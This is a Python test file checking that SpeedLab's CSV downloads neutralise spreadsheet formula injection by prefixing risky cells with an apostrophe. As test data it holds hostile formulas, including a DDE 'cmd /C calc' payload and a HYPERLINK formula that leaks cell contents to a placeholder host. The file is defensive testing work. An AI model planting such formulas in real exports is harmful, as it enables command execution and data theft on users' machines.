"""Every CSV SpeedLab offers is inert in a spreadsheet (issue 56, item 1; CWE-1236): no
cell starts with = + - @ tab or CR, numbers stay numbers (engine.base.csv_safe)."""
from __future__ import annotations

import csv
import io
import math

import pandas as pd
import pytest

from engine.base import csv_safe
from tests.helpers.hostile import FORMULAS, hostile_store

FIELDS = ("hostname", "cpu_model", "warnings", "dataset", "group_id", "stderr_tail", "error", "file")
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _formula_of(field: str) -> str:
    """Each text field its own formula, so that all of = + - @ and the text "-0.5" are tried."""
    return FORMULAS[FIELDS.index(field) % len(FORMULAS)]


def parse(text: str, sep: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=sep))


def quoted_cells(text: str, sep: str = ",") -> list[list[bool]]:
    """For each row, whether each cell was written in quotes (text) or bare (a number)."""
    rows = []
    for line in text.splitlines():
        rows.append([cell.startswith('"') for cell in next(csv.reader(io.StringIO(line), delimiter=sep,
                                                                      quoting=csv.QUOTE_NONE, escapechar=None))])
    return rows


def test_cell_quotes_every_formula_start_and_keeps_numbers():
    assert [csv_safe.cell(s) for s in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "a=1", "", "-0.5")] == \
        ["'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", "a=1", "", "'-0.5"]
    assert [csv_safe.cell(v) for v in (-0.5, -3, 0, True, None)] == [-0.5, -3, 0, True, None]
    assert csv_safe.cell(pd.Timestamp(0)) == "1970-01-01 00:00:00"


def test_to_csv_quotes_text_and_leaves_numbers_bare():
    df = pd.DataFrame({"id": [1, 2], "loss": [-0.5, float("nan")], "error": ['=HYPERLINK("http://h/?"&A1)', "-0.5"],
                       "peak": [float("-inf"), 2.0]})
    text = csv_safe.to_csv(df)
    assert text.splitlines() == ['"id","loss","error","peak"',
                                 '1,-0.5,"\'=HYPERLINK(""http://h/?""&A1)","\'-inf"',
                                 '2,"","\'-0.5",2.0']
    tsv = csv_safe.to_csv(pd.DataFrame({"a": ["@x"], "b": [-1]}), sep="\t")
    assert tsv == '"a"\t"b"\n"\'@x"\t-1\n'
    assert csv_safe.to_csv([{"a": "+1", "b": 3}]) == '"a","b"\n"\'+1",3\n'  # rows too


@pytest.mark.page
def test_every_runs_page_csv_of_a_hostile_bundle_is_inert(store, tmp_path):
    from engine.report.table import runs_frame
    from views.runs.files import METRIC_TABLES, csv_downloads
    from views.runs.runs import table

    ids = hostile_store(store, tmp_path, _formula_of)
    runs = [store.get_run(i) for i in ids]
    assert runs[1]["error"] == FORMULAS[1] and runs[0]["config"]["dataset"] == FORMULAS[3]  # as imported
    view = table(runs, runs_frame(store, runs))
    seen_text = 0
    for rid in ids:
        files = csv_downloads(store, view, rid)
        assert sorted(files) == sorted(["speedlab_runs.csv"] + [f"speedlab_run{rid}_{n}.csv" for n in METRIC_TABLES])
        for name, text in files.items():
            rows, bare = parse(text), quoted_cells(text)
            source = view if name == "speedlab_runs.csv" else store.frame(name.rsplit("_", 1)[1][:-4], rid)
            assert rows[0] == [str(c) for c in source.columns] and len(rows) == len(source) + 1, name
            for r, (row, quoted) in enumerate(zip(rows[1:], bare[1:])):
                for c, (value, was_quoted) in enumerate(zip(row, quoted)):
                    original = source.iloc[r, c]
                    if isinstance(original, str):
                        seen_text += 1
                        assert was_quoted and not value.startswith(STARTS), (name, source.columns[c], value)
                        assert value == ("'" + original if original.startswith(STARTS) else original)
                    elif isinstance(original, (int, float)) and not isinstance(original, bool) \
                            and math.isfinite(original):
                        assert not was_quoted and float(value) == original, (name, source.columns[c], value)
    table_rows = parse(csv_downloads(store, view, None)["speedlab_runs.csv"])
    cols = table_rows[0]
    by_id = {int(row[cols.index("id")]): dict(zip(cols, row)) for row in table_rows[1:]}
    # hand-made cells: the run's error ('+cmd...'), the data set that starts the configuration
    # ('@SUM...'), the host inside the origin (not at its start: left as it is)
    assert by_id[ids[1]]["error"] == "'+cmd|' /C calc'!A0" and by_id[ids[0]]["error"] == ""
    assert by_id[ids[0]]["config"] == "'@SUM(1+1)*cmd|' /C calc'!A0 · cnn · fp32 · 1 device · batch 128 · 3 epochs"
    assert by_id[ids[0]]["origin"] == 'imported from =HYPERLINK("http://HOST/?leak="&A2&B2&C2,"worker log")'
    assert by_id[ids[0]]["time_to_target_sec"] == "2.0" and seen_text >= 2 * 3 * len(ids)
